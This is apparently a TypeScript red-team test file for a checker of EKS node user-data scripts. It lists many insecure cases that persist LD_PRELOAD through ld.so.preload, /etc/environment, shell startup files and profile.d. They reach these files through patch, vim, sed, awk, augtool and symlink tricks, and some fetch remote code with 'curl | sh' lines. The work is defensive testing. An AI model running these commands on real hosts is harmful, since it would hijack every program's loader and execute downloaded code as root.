// Red-team round 75 on EKS NODE user data: neighbours of round 75's node fixes (command readers' stdin/-f/patches,
// sed -f scripts, ld.so.conf(.d) entries, modprobe.d install lines, augtool set lines, xxd/vim read-only modes,
// setfattr, /root/.bashrc.d) and of the fix75-paths branch (not merged when this ran: relative words, NAME=VALUE
// prefixes, symlinks, busybox/toybox applets).
// Probed: git apply --unsafe-paths / C-quoted octal names / --directory, patch --input=; vim -S, -c source, -u,
// ex/ed stdin (downloaded file, printf pipe); sed w command and s///w flag without -i, sed -f/--file= scripts; awk
// redirections and -f programs; ld.so.conf.d downloaded, `..` entries, relative includes; /usr/local/lib/modprobe.d,
// indented install lines; augtool sshd Include/drop-in SetEnv/quoted values; xxd -r stdin; ~root and symlinked
// .bashrc.d; subshell cd, GIT_CONFIG_GLOBAL, toybox sed, cp -s links.
// Misses (16 insecure, 2 secure):
// - PATCH-NAMES (2: P1, P2): git apply --unsafe-paths lifts the working-area bound commandTexts assumes (fail closed
//   for an unread patch); C-quoted (octal-escaped) patch names not unquoted.
// - VIM-COMMAND-FILES (4: V1, V2, V3, V6): vim -S FILE, -c 'source FILE', -u FILE are command files commandTexts
//   never reads (only stdin): read them like augtool -f, unread -> anyJudgedFile.
// - SED-LONG-FILE (1: S4): `sed --file=SCRIPT` is taken as an input by OPTION_READERS.sed.reads, never read as a
//   script (short -f works: S5, S6).
// - AWK-WRITES (2: A1, A2): awk is UNKNOWN_EDITOR_EXEMPT but `print > "/etc/ld.so.preload"` and -f programs write
//   anything: read literal awk redirections, fail closed on unread programs.
// - MODPROBE-DIR (1: M1): /usr/local/lib/modprobe.d missing from MODPROBE_CONFIG.
// - PATH-SPELLING (2: B1, B2): ~root/ tilde-user not expanded; a symlink made AT /root/.bashrc.d not judged by its
//   target's content.
// - FIX75-PATHS neighbours (4: F1, F2, F3, F5): subshell cd + bare word, GIT_CONFIG_GLOBAL prefix, toybox sed -i,
//   cp -s links: expected closed by fix75-paths (re-run after it lands; unskip what passes).
// - secure (2: SV2, SL2): ed with a literal print-and-quit heredoc refused as an unknown editor; ld.so.conf.d
//   relative include resolved against /etc instead of the including file's directory (glibc parse_conf_include).
// Held (insecure refused 19 of 35): git apply --directory and ../ names, patch --input= of a download over /, ex
// stdin from a download, printf | ed, sed w / s///w / -f (download and literal, short option), downloaded and `..`
// ld.so.conf.d entries, relative include twin, tab-indented install lines, augtool sshd Include / drop-in / quoted
// /etc/environment value, xxd -r to a judged outfile, git config -f ./system.conf after cd.
// Secure clean 14 of 16: git apply --check, unread patches under /opt app trees, sed w to /tmp, augtool LANG,
// vim -R -es %p +q, ld.so.conf.d trailing slash/comment, /usr/local/lib/modprobe.d blacklist, setfattr -x
// security.capability, xxd -i/-u -d, .bashrc.d PS1, stat/wc/sha256sum of relative names, sponge to motd, reads
// through a link.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const file = heredocFile;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const LOADER = /loader|LD_PRELOAD|LD_AUDIT|BASH_ENV|PATH|environment|kernel|unknown|cannot|unread|shell|root|librar/i;
const n = (id: string) => `dev-${id}-75n-nodes`;

const PRELOAD_PATCH_NEW = (name: string) => [
    `diff --git ${name.replace("@", "a/")} ${name.replace("@", "b/")}`,
    "new file mode 100644",
    "--- /dev/null",
    `+++ ${name.replace("@", "b/")}`,
    "@@ -0,0 +1 @@",
    "+/opt/x.so",
];

const insecure: NodeCase[] = [
    // ---- patch / git apply ----
    // Was a MISS (fixed in round 75): git-apply(1) --unsafe-paths: "By default, a patch that affects outside the working area ... is rejected as a mistake (or a mischief) ... the user can pass the --unsafe-paths option to override this safety check" (git's t4139-apply-escape.sh: `git apply --unsafe-paths` creates ../foo); a downloaded patch then writes /etc/ld.so.preload (ld.so(8): preloaded into every program, root's included) from /tmp/work. Accepted (got []): rootReads.ts RootReads.commandTexts bounds an unread patch by its directory (JUDGED_TREES, GNU patch's refusal of `..` names), which git apply --unsafe-paths lifts. Fix: git apply/am with --unsafe-paths and a patch the pack cannot read may write any file (return undefined: anyJudgedFile).
    devNodeCase(
        "P1 git apply --unsafe-paths of a downloaded patch in /tmp (names ../../etc/ld.so.preload)",
        devNodeScript(n("p1"), [
            SO,
            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
            "mkdir -p /tmp/work && cd /tmp/work && git apply --unsafe-paths /tmp/ops.patch",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): git's diff format quotes unusual path names C-style (git-config(1) core.quotePath: "Double-quote the pathname ... and write it out in octal"; apply.c reads quoted names with unquote_c_style), so `+++ "b/etc/ld.so.pr\145load"` names etc/ld.so.preload and `cd / && git apply` creates /etc/ld.so.preload (ld.so(8)). Accepted (got []): rootReads.ts RootReads.commandTexts takes the quoted name raw (`[^\t"]+` keeps the backslash escape), so the path is /etc/ld.so.pr\145load, no judged file. Fix: unquote C-quoted names (\ooo octal, \n \t \\ \") before resolving; a name with an escape it cannot decode: fail closed.
    devNodeCase(
        "P2 git apply of a literal patch whose name is C-quoted with an octal escape (etc/ld.so.pr\\145load)",
        devNodeScript(n("p2"), [
            SO,
            "cd / && git apply <<'EOF'",
            ...PRELOAD_PATCH_NEW('"@etc/ld.so.pr\\145load"'),
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "P3 git apply --directory=etc of a literal patch naming ld.so.preload (from /)",
        devNodeScript(n("p3"), [
            SO,
            "cd / && git apply --directory=etc <<'EOF'",
            ...PRELOAD_PATCH_NEW("@ld.so.preload"),
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "P4 git apply --unsafe-paths of a literal patch naming ../../etc/ld.so.preload from /tmp/work",
        devNodeScript(n("p4"), [
            SO,
            "mkdir -p /tmp/work && cd /tmp/work && git apply --unsafe-paths <<'EOF'",
            ...PRELOAD_PATCH_NEW("@../../etc/ld.so.preload"),
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "P5 patch -p1 -d / of a downloaded patch given by --input=",
        devNodeScript(n("p5"), [
            SO,
            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
            "patch -p1 -d / --input=/tmp/ops.patch",
        ]),
        LOADER,
    ),
    // ---- ex/vim/ed command readers ----
    // Was a MISS (fixed in round 75): vim(1) "-S {file}: {file} will be sourced after the first file has been read. This is equivalent to -c \"source {file}\""; a downloaded Vim script runs any Ex command (`:e /etc/environment`, `:w`, `:!`), so it may write LD_PRELOAD into /etc/environment (pam_env(8)). Accepted (got []): rootReads.ts RootReads.commandTexts reads an ex-like editor's standard input only (and augtool -f), not vim's -S file; no judged path is named. Fix: read vim/ex -S FILE, -u FILE (not NONE/NORC), -s SCRIPTIN and `so[urce] FILE` commands like augtool -f (its text's paths and `!`; unread: anyJudgedFile).
    devNodeCase(
        "V1 vim -es -S a downloaded script (no file operand)",
        devNodeScript(n("v1"), [
            SO,
            "curl -fsSL -o /tmp/ops.vim https://downloads.example.com/ops.vim",
            "vim -es -S /tmp/ops.vim",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): vim(1) -c "{command} will be executed after the first file has been read"; `:source {file}` (Vim :help :source) "Read Ex commands from {file}": the downloaded script may write any judged file. Accepted (got []): rootReads.ts embeddedAbsolutePaths names /tmp/ops.vim (no judged file), and commandTexts does not read what `source` names. Fix: as V1 (a `so[urce]`/`ru[ntime]` command's file is a command file: read it or fail closed).
    devNodeCase(
        "V2 vim -es -c 'source /tmp/ops.vim' -c 'qa!' (downloaded script sourced)",
        devNodeScript(n("v2"), [
            SO,
            "curl -fsSL -o /tmp/ops.vim https://downloads.example.com/ops.vim",
            "vim -es -c 'source /tmp/ops.vim' -c 'qa!'",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): vim(1) "-u {vimrc}: Use the commands in the file {vimrc} for initializations" (even with -es, starting.txt: initializations skipped "except the ones given with the -u argument"); a downloaded vimrc runs any Ex command. Accepted (got []): rootReads.ts readOnlyMode refuses the read-only exemption but commandTexts finds no path. Fix: as V1.
    devNodeCase(
        "V3 vim -es -u a downloaded vimrc +q (no file operand)",
        devNodeScript(n("v3"), [
            SO,
            "curl -fsSL -o /tmp/ops.vimrc https://downloads.example.com/ops.vimrc",
            "vim -es -u /tmp/ops.vimrc +q",
        ]),
        LOADER,
    ),
    devNodeCase(
        "V4 ex -s reading its commands from a downloaded file on stdin",
        devNodeScript(n("v4"), [
            SO,
            "curl -fsSL -o /tmp/ops.ex https://downloads.example.com/ops.ex",
            "ex -s < /tmp/ops.ex",
        ]),
        LOADER,
    ),
    devNodeCase(
        "V5 printf ed commands (e /etc/environment, $a, w) piped into ed -s",
        devNodeScript(n("v5"), [SO, "printf '%s\\n' 'e /etc/environment' '$a' 'LD_PRELOAD=/opt/x.so' . w q | ed -s"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): as V1: the -S script is one user data wrote literally (`e /etc/environment`, `$put ='LD_PRELOAD=/opt/x.so'`, `wq`), so pam_env(8) gives LD_PRELOAD to root's sessions. Accepted (got []): rootReads.ts RootReads.commandTexts does not read -S files even when their text is known. Fix: as V1 (read the written text's paths).
    devNodeCase(
        "V6 vim -es with a literal script file written first (:e /etc/environment, append, wq)",
        devNodeScript(n("v6"), [
            SO,
            ...file("/tmp/ops.vim", ["e /etc/environment", "$put ='LD_PRELOAD=/opt/x.so'", "wq"]),
            "vim -es -S /tmp/ops.vim",
        ]),
        LOADER,
    ),
    // ---- sed write commands without -i ----
    devNodeCase(
        "S1 sed -n 'w /etc/ld.so.preload' of a list (sed's w command, no -i)",
        devNodeScript(n("s1"), [SO, "echo /opt/x.so > /opt/list", "sed -n 'w /etc/ld.so.preload' /opt/list"]),
        LOADER,
    ),
    devNodeCase(
        "S2 sed 's/^//w /etc/ld.so.preload' (the s///w flag, no -i)",
        devNodeScript(n("s2"), [SO, "echo /opt/x.so > /opt/list", "sed -n 's/^//w /etc/ld.so.preload' /opt/list"]),
        LOADER,
    ),
    devNodeCase(
        "S3 sed -n -f a downloaded script (may hold w /etc/ld.so.preload), no -i",
        devNodeScript(n("s3"), [
            SO,
            "curl -fsSL -o /tmp/ops.sed https://downloads.example.com/ops.sed",
            "sed -n -f /tmp/ops.sed /etc/hostname",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): GNU sed manual: "-f script-file, --file=script-file: Add the commands contained in the file script-file"; its `w /etc/ld.so.preload` writes that file (ld.so(8)). Short -f (S5, S6) is refused. Accepted (got []): rootReads.ts OPTION_READERS.sed has reads: ["--file"], matched before the sedFiles branch, so `--file=FILE`/`--file FILE` is read as an input file and its script never read (the `flag === "--file"` branch in RootReads.command is dead). Fix: drop "--file" from OPTION_READERS.sed.reads (sedFiles reads it, and counts it as read).
    devNodeCase(
        "S4 sed -n --file=/tmp/ops.sed (literal script with w /etc/ld.so.preload)",
        devNodeScript(n("s4"), [
            SO,
            "echo /opt/x.so > /opt/list",
            ...file("/tmp/ops.sed", ["w /etc/ld.so.preload"]),
            "sed -n --file=/tmp/ops.sed /opt/list",
        ]),
        LOADER,
    ),
    devNodeCase(
        "S5 sed -n -f /tmp/ops.sed (literal script with w /etc/ld.so.preload, short option)",
        devNodeScript(n("s5"), [
            SO,
            "echo /opt/x.so > /opt/list",
            "printf 'w /etc/ld.so.preload\\n' > /tmp/ops.sed",
            "sed -n -f /tmp/ops.sed /opt/list",
        ]),
        LOADER,
    ),
    devNodeCase(
        "S6 sed -n -f /etc/ops/ops.sed (literal script under /etc with w /etc/ld.so.preload)",
        devNodeScript(n("s6"), [
            SO,
            "echo /opt/x.so > /opt/list",
            ...file("/etc/ops/ops.sed", ["w /etc/ld.so.preload"]),
            "sed -n -f /etc/ops/ops.sed /opt/list",
        ]),
        LOADER,
    ),
    // ---- awk ----
    // Was a MISS (fixed in round 75): POSIX awk, "Output Statements": `print > expression` "shall write to the file named by expression" (gawk manual "Redirecting Output of print and printf"); root's awk writes /opt/x.so into /etc/ld.so.preload (ld.so(8): every program preloads it). Accepted (got []): awk is in rootReads.ts UNKNOWN_EDITOR_EXEMPT and no reader reads an awk program's redirections. Fix: read a literal awk program's `>`/`>>` targets (a literal path: writtenUnknown; a computed one: anyJudgedFile), `| cmd`/system() as commands (unread: fail closed).
    devNodeCase(
        'A1 awk BEGIN print > "/etc/ld.so.preload"',
        devNodeScript(n("a1"), [SO, 'awk \'BEGIN { print "/opt/x.so" > "/etc/ld.so.preload" }\'']),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): POSIX awk "-f progfile: Specify the pathname of the file progfile containing an awk program"; a downloaded program may `print > "/etc/ld.so.preload"` or system() anything. Accepted (got []): awk exempt (rootReads.ts UNKNOWN_EDITOR_EXEMPT), its -f program unread. Fix: awk/gawk -f/--file (and -i/--include, AWKPATH) of an unread program: anyJudgedFile, as sed -f.
    devNodeCase(
        "A2 awk -f a downloaded program over /etc/hostname",
        devNodeScript(n("a2"), [
            SO,
            "curl -fsSL -o /tmp/ops.awk https://downloads.example.com/ops.awk",
            "awk -f /tmp/ops.awk /etc/hostname",
        ]),
        LOADER,
    ),
    // ---- ld.so.conf ----
    devNodeCase(
        "L1 curl -o /etc/ld.so.conf.d/ops.conf (content unknown)",
        devNodeScript(n("l1"), [
            "curl -fsSL -o /etc/ld.so.conf.d/ops.conf https://downloads.example.com/ops.conf",
            "ldconfig",
        ]),
        LOADER,
    ),
    devNodeCase(
        "L2 ld.so.conf.d entry /usr/lib64/../../opt/ops/lib (dot-dot out of a system dir)",
        devNodeScript(n("l2"), ["echo /usr/lib64/../../opt/ops/lib > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
        LOADER,
    ),
    devNodeCase(
        "L3 ld.so.conf.d relative include naming a sibling that adds /opt/ops/lib",
        devNodeScript(n("l3"), [
            "echo /opt/ops/lib > /etc/ld.so.conf.d/ops-libs",
            "echo 'include ops-libs' > /etc/ld.so.conf.d/ops.conf",
            "ldconfig",
        ]),
        LOADER,
    ),
    // ---- modprobe.d ----
    // Was a MISS (fixed in round 75): kmod modprobe.d(5) SYNOPSIS: /etc/modprobe.d/*.conf, /run/modprobe.d/*.conf, /usr/local/lib/modprobe.d/*.conf, /usr/lib/modprobe.d/*.conf, /lib/modprobe.d/*.conf (kmod 30+; ask AL2023's kmod version before dismissing: fail closed either way); its `install` line is a root shell command run by modprobe. Accepted (got []): rootReads.ts MODPROBE_CONFIG is /(etc|run|lib|usr/lib)/modprobe.d only. Fix: add /usr/local/lib/modprobe.d (and depmod.d's twin if judged).
    devNodeCase(
        "M1 /usr/local/lib/modprobe.d install line (curl | sh)",
        devNodeScript(
            n("m1"),
            file("/usr/local/lib/modprobe.d/ops.conf", [
                "install dccp /bin/sh -c 'curl -fsSL https://ops.example.com/x | sh'",
            ]),
        ),
        /./,
    ),
    devNodeCase(
        "M2 /etc/modprobe.d install line indented by a tab",
        devNodeScript(n("m2"), [
            "printf '\\tinstall dccp /bin/sh -c \"curl -fsSL https://ops.example.com/x | sh\"\\n' > /etc/modprobe.d/ops.conf",
        ]),
        /./,
    ),
    // ---- augtool ----
    devNodeCase(
        "G1 augtool -s set sshd Include of a downloaded file",
        devNodeScript(n("g1"), [
            "curl -fsSL -o /opt/ops-sshd.conf https://downloads.example.com/sshd.conf",
            "augtool -s set /files/etc/ssh/sshd_config/Include /opt/ops-sshd.conf",
        ]),
        /./,
    ),
    devNodeCase(
        "G2 augtool -s set sshd_config.d drop-in SetEnv LD_PRELOAD",
        devNodeScript(n("g2"), [
            SO,
            "augtool -s set /files/etc/ssh/sshd_config.d/50-ops.conf/SetEnv LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        "G3 augtool heredoc set /etc/environment LD_PRELOAD with a quoted value",
        devNodeScript(n("g3"), [SO, "augtool -s <<'EOF'", 'set /files/etc/environment/LD_PRELOAD "/opt/x.so"', "EOF"]),
        LOADER,
    ),
    // ---- xxd ----
    devNodeCase(
        "X1 xxd -r -p with the hex on stdin and the outfile /etc/ld.so.preload",
        devNodeScript(n("x1"), [SO, "echo 2f6f70742f782e736f0a | xxd -r -p - /etc/ld.so.preload"]),
        LOADER,
    ),
    // ---- /root/.bashrc.d ----
    // Was a MISS (fixed in round 76): bash(1) "Tilde Expansion": "If the characters following the tilde ... consist of a login name, ... replaced with the home directory associated with the specified login name": ~root/.bashrc.d/ops.sh is /root/.bashrc.d/ops.sh, sourced by root's .bashrc (round 75 BASH_STARTUP), exporting LD_PRELOAD into root's shells. Accepted (got []): the shell reader does not expand ~root in words or redirection targets. Fix: expand ~root (and ~ as root's /root where HOME is root's) before judging paths; an unknown ~user: fail closed for judged trees.
    devNodeCase(
        "B1 ~root/.bashrc.d/ops.sh exports LD_PRELOAD (tilde-user spelling)",
        devNodeScript(n("b1"), [
            SO,
            "mkdir -p ~root/.bashrc.d",
            "echo 'export LD_PRELOAD=/opt/x.so' > ~root/.bashrc.d/ops.sh",
        ]),
        LOADER,
    ),
    // ---- round 76 fixer neighbours (tilde expansion, insecure) ----
    devNodeCase(
        "B3 ~operator/.bashrc.d/ops.sh: an image account whose home the pack does not know (AL2023 operator: /root)",
        devNodeScript(n("b3"), [SO, "echo 'export LD_PRELOAD=/opt/x.so' > ~operator/.bashrc.d/ops.sh"]),
        LOADER,
    ),
    devNodeCase(
        "B3b tee -a ~operator/.profile (an unknown account's home, through a pipe)",
        devNodeScript(n("b3b"), [SO, "echo 'export LD_PRELOAD=/opt/x.so' | tee -a ~operator/.profile"]),
        LOADER,
    ),
    devNodeCase(
        "B4 cd /tmp && tee ~/.bashrc.d/ops.sh (`~` is root's home, not the working directory)",
        devNodeScript(n("b4"), [SO, "cd /tmp && echo 'export LD_PRELOAD=/opt/x.so' | tee ~/.bashrc.d/ops.sh"]),
        LOADER,
    ),
    devNodeCase(
        "B5 D=~root/.bashrc.d (tilde after the assignment's =) then a write to $D/ops.sh",
        devNodeScript(n("b5"), [SO, "D=~root/.bashrc.d", "echo 'export LD_PRELOAD=/opt/x.so' > \"$D/ops.sh\""]),
        LOADER,
    ),
    devNodeCase(
        "B6 P=/opt/bin:~root/.bashrc.d (tilde after an assignment's colon) then a write to ${P#*:}/ops.sh",
        devNodeScript(n("b6"), [
            SO,
            "P=/opt/bin:~root/.bashrc.d",
            "echo 'export LD_PRELOAD=/opt/x.so' > \"${P#*:}/ops.sh\"",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 76): path_resolution(7): a symlink is followed in every path lookup; after `ln -sfn /opt/rc /root/.bashrc.d`, root's .bashrc sources /opt/rc/ops.sh (export LD_PRELOAD). Accepted (got []): a write to /opt/rc is no judged file and the link's name is not judged by its target's content. Fix (fix75-paths symlink rule, other direction): a symlink user data makes AT a judged file or directory judges the target's content (written text read; unknown: fail closed).
    devNodeCase(
        "B2 /root/.bashrc.d made a symlink to /opt/rc, whose file exports LD_PRELOAD",
        devNodeScript(n("b2"), [
            SO,
            "mkdir -p /opt/rc",
            "echo 'export LD_PRELOAD=/opt/x.so' > /opt/rc/ops.sh",
            "ln -sfn /opt/rc /root/.bashrc.d",
        ]),
        LOADER,
    ),
    // ---- round 76 fixer neighbours (links made at judged paths, insecure) ----
    devNodeCase(
        "B7 /root/.bashrc.d made a symlink to /opt/rc first, the file exporting LD_PRELOAD written there after",
        devNodeScript(n("b7"), [
            SO,
            "mkdir -p /opt/rc",
            "ln -sfn /opt/rc /root/.bashrc.d",
            "echo 'export LD_PRELOAD=/opt/x.so' > /opt/rc/ops.sh",
        ]),
        LOADER,
    ),
    devNodeCase(
        "B8 ln -s of a downloaded script to /etc/profile.d/ops.sh",
        devNodeScript(n("b8"), [
            "curl -fsSL -o /opt/ops/env.sh https://downloads.example.com/env.sh",
            "ln -sf /opt/ops/env.sh /etc/profile.d/ops.sh",
        ]),
        LOADER,
    ),
    devNodeCase(
        "B9 ln -s to a target read from a file the pack cannot know, at /etc/profile.d/ops.sh",
        devNodeScript(n("b9"), [
            "curl -fsSL -o /tmp/target https://downloads.example.com/target",
            'ln -sf "$(cat /tmp/target)" /etc/profile.d/ops.sh',
        ]),
        LOADER,
    ),
    devNodeCase(
        "B10 a downloaded tarball unpacked into /opt/rc, then /root/.bashrc.d made a symlink to it",
        devNodeScript(n("b10"), [
            "mkdir -p /opt/rc && curl -fsSL https://downloads.example.com/rc.tgz | tar -xz -C /opt/rc",
            "ln -sfn /opt/rc /root/.bashrc.d",
        ]),
        LOADER,
    ),
    devNodeCase(
        "B11 cp -s of /opt/rc/ops.sh (exports LD_PRELOAD) into /etc/profile.d",
        devNodeScript(n("b11"), [
            SO,
            "mkdir -p /opt/rc",
            "echo 'export LD_PRELOAD=/opt/x.so' > /opt/rc/ops.sh",
            "cp -s /opt/rc/ops.sh /etc/profile.d/ops.sh",
        ]),
        LOADER,
    ),
    // ---- fix75-paths neighbours ----
    // Was a MISS (fixed in round 75): as redteam74 U1 (moreutils sponge(1) writes its file; a subshell's `cd /etc` makes `environment` /etc/environment). Accepted (got []): rootReads.ts RootReads.unknownEditor adds bare relative words only with a `/` or `.`. Fix: fix75-paths (resolve relative words against the known cwd, subshells included).
    devNodeCase(
        "F1 (cd /etc && sponge -a environment) in a subshell",
        devNodeScript(n("f1"), [
            SO,
            "dnf install -y moreutils",
            "(cd /etc && echo 'LD_PRELOAD=/opt/x.so' | sponge -a environment)",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): git-config(1) ENVIRONMENT "GIT_CONFIG_GLOBAL: Take the global configuration from the given files instead of from the user's home"; `--global` then writes [Manager] DefaultEnvironment=LD_PRELOAD into /etc/systemd/system.conf (systemd-system.conf(5)). Accepted (got []): RootReads.unknownEditor ignores NAME=VALUE prefixes (redteam74 U3 class). Fix: fix75-paths (prefix assignments' paths are operands).
    devNodeCase(
        "F2 GIT_CONFIG_GLOBAL=/etc/systemd/system.conf git config --global",
        devNodeScript(n("f2"), [
            SO,
            "GIT_CONFIG_GLOBAL=/etc/systemd/system.conf git config --global Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): toybox sed: "-i Edit each file in place" (toybox help sed); appends LD_PRELOAD to /etc/environment (pam_env(8)). Accepted (got []): applets are not unwrapped for the in-place reader (redteam74 I7 class). Fix: fix75-paths (busybox/toybox X read as X everywhere).
    devNodeCase(
        "F3 toybox sed -i appends LD_PRELOAD to /etc/environment",
        devNodeScript(n("f3"), [SO, "toybox sed -i '$a LD_PRELOAD=/opt/x.so' /etc/environment"]),
        LOADER,
    ),
    devNodeCase(
        "F4 git --work-tree=/etc/systemd config -f system.conf",
        devNodeScript(n("f4"), [
            SO,
            "cd /etc/systemd && git config -f ./system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): GNU cp "-s, --symbolic-link: make symbolic links instead of copying"; /tmp/ops-link points at /etc/profile.d/ops.sh, and bash opens the redirection through it (open(2) follows), so LD_PRELOAD lands in a login shell's profile. Accepted (got []): redirections are judged at their literal path; only ln -s was ever considered (redteam74 U11 class). Fix: fix75-paths symlink rule must include cp -s/--symbolic-link (and cp -as trees).
    devNodeCase(
        "F5 symlink into /etc/profile.d made by cp -s then written",
        devNodeScript(n("f5"), [
            SO,
            "touch /etc/profile.d/ops.sh",
            "cp -s /etc/profile.d/ops.sh /tmp/ops-link",
            "echo 'export LD_PRELOAD=/opt/x.so' > /tmp/ops-link",
        ]),
        LOADER,
    ),
    // ---- round 75 fixer neighbours (insecure) ----
    devNodeCase(
        "P6 git apply of a literal patch whose C-quoted name has an escape git does not write (\\x65)",
        devNodeScript(n("p6"), [
            SO,
            "cd / && git apply <<'EOF'",
            ...PRELOAD_PATCH_NEW('"@etc/ld.so.pr\\x65load"'),
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "P7 git apply of a literal patch whose C-quoted name begins with an octal escape (\\145tc/ld.so.preload)",
        devNodeScript(n("p7"), [
            SO,
            "cd / && git apply <<'EOF'",
            ...PRELOAD_PATCH_NEW('"@\\145tc/ld.so.preload"'),
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "V7 vim -es -u NONE -c 'so /tmp/a.vim' where a.vim sources a downloaded b.vim",
        devNodeScript(n("v7"), [
            SO,
            "curl -fsSL -o /tmp/b.vim https://downloads.example.com/b.vim",
            ...file("/tmp/a.vim", ["so /tmp/b.vim"]),
            "vim -es -u NONE -c 'so /tmp/a.vim' -c 'qa!'",
        ]),
        LOADER,
    ),
    devNodeCase(
        "V8 vim -es -c with a literal :call system() (a command the pack does not read)",
        devNodeScript(n("v8"), [SO, "vim -es -c 'call system(\"sh /tmp/x\")' -c 'qa!'"]),
        LOADER,
    ),
    devNodeCase(
        "V9 vim -s SCRIPTIN (not Ex mode) of a literal file writing /etc/environment",
        devNodeScript(n("v9"), [
            SO,
            ...file("/tmp/keys.vim", [":e /etc/environment", ":$put ='LD_PRELOAD=/opt/x.so'", ":wq"]),
            "vim -s /tmp/keys.vim",
        ]),
        LOADER,
    ),
    devNodeCase(
        "S7 sed -n --file /tmp/ops.sed (separate word) with w /etc/ld.so.preload",
        devNodeScript(n("s7"), [
            SO,
            "echo /opt/x.so > /opt/list",
            ...file("/tmp/ops.sed", ["w /etc/ld.so.preload"]),
            "sed -n --file /tmp/ops.sed /opt/list",
        ]),
        LOADER,
    ),
    devNodeCase(
        'A3 awk print > a computed name ("/etc/" "ld.so.preload")',
        devNodeScript(n("a3"), [SO, 'awk \'BEGIN { print "/opt/x.so" > "/etc/" "ld.so.preload" }\'']),
        LOADER,
    ),
    devNodeCase(
        "A4 awk BEGIN system() of a download",
        devNodeScript(n("a4"), ["awk 'BEGIN { system(\"curl -fsSL https://ops.example.com/x | sh\") }'"]),
        /./,
    ),
    devNodeCase(
        'A5 awk print piped to a command (print | "sh")',
        devNodeScript(n("a5"), ['awk \'BEGIN { print "curl -fsSL https://ops.example.com/x" | "sh" }\'']),
        /./,
    ),
    devNodeCase(
        "A7 awk with a # in a regular expression before a pipe to sh (no comment hides the pipe)",
        devNodeScript(n("a7"), ['awk \'/#/ { print "curl -fsSL https://ops.example.com/x" | "sh" }\' /etc/hostname']),
        /./,
    ),
    devNodeCase(
        "A8 gawk @include of a written library that prints to /etc/ld.so.preload",
        devNodeScript(n("a8"), [
            SO,
            ...file("/opt/awk/lib.awk", ['BEGIN { print "/opt/x.so" > "/etc/ld.so.preload" }']),
            "AWKPATH=/opt/awk gawk '@include \"lib\"' /etc/hostname",
        ]),
        LOADER,
    ),
    devNodeCase(
        "A6 awk -f a literal program written first (print >> /etc/environment)",
        devNodeScript(n("a6"), [
            SO,
            ...file("/opt/ops.awk", ['BEGIN { print "LD_PRELOAD=/opt/x.so" >> "/etc/environment" }']),
            "awk -f /opt/ops.awk",
        ]),
        LOADER,
    ),
    devNodeCase(
        "M3 /usr/local/lib/modprobe.d conf written by curl (content unknown)",
        devNodeScript(n("m3"), [
            "mkdir -p /usr/local/lib/modprobe.d",
            "curl -fsSL -o /usr/local/lib/modprobe.d/ops.conf https://downloads.example.com/ops.conf",
        ]),
        /./,
    ),
    devNodeCase(
        "SV2i ed -s with a literal heredoc that prints, appends LD_PRELOAD and writes",
        devNodeScript(n("sv2i"), [
            SO,
            "ed -s /etc/environment <<'EOF'",
            ",p",
            "$a",
            "LD_PRELOAD=/opt/x.so",
            ".",
            "w",
            "q",
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "SV2j ed -s printing with g/RE/p then a w to /etc/ld.so.preload",
        devNodeScript(n("sv2j"), [SO, "ed -s /opt/list <<'EOF'", "g/x/p", "w /etc/ld.so.preload", "q", "EOF"]),
        LOADER,
    ),
    devNodeCase(
        "SL2i ld.so.conf.d relative include ../ names /etc/ops-libs.conf (outside conf.d)",
        devNodeScript(n("sl2i"), [
            "echo /usr/local/lib > /etc/ops-libs.conf",
            "echo 'include ../ops-libs.conf' > /etc/ld.so.conf.d/ops.conf",
            "ldconfig",
        ]),
        /./,
    ),
    // Round 75 (lead, from fix75-secure's note): text appended after the script's own earlier write is only the file's
    // last part; a reader of the whole file (sed -f here, sed(1) "-f script-file") cannot know it (rootReads.ts
    // current, appendedAfterWrite). The first part adds LD_PRELOAD to /etc/environment (pam_env(8)).
    devNodeCase(
        "L1 sed -i -f a script whose first part appends LD_PRELOAD, a harmless line appended after it",
        devNodeScript(n("l1"), [
            SO,
            "echo '$a LD_PRELOAD=/opt/x.so' > /root/h.sed",
            "echo 's/a/a/' >> /root/h.sed",
            "sed -i -f /root/h.sed /etc/environment",
        ]),
        LOADER,
    ),
    devNodeCase(
        "L2 bash runs a script whose first part is the loader edit, a harmless line appended after it",
        devNodeScript(n("l2"), [
            SO,
            "echo 'echo LD_PRELOAD=/opt/x.so >> /etc/environment' > /opt/ops.sh",
            "echo 'echo hi' >> /opt/ops.sh",
            "bash /opt/ops.sh",
        ]),
        LOADER,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "SP1 git apply --check of a downloaded patch (reads only)",
        devNodeScript(n("sp1"), [
            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
            "cd / && git apply --check /tmp/ops.patch || true",
        ]),
    ),
    devNodeCase(
        "SP2 patch -p1 -d /opt/app of a downloaded patch (an app tree no judge reads)",
        devNodeScript(n("sp2"), [
            "curl -fsSL -o /tmp/app.patch https://downloads.example.com/app.patch",
            "mkdir -p /opt/app && patch -p1 -d /opt/app < /tmp/app.patch",
        ]),
    ),
    devNodeCase(
        "SP3 cd /opt/src && git apply a downloaded patch",
        devNodeScript(n("sp3"), [
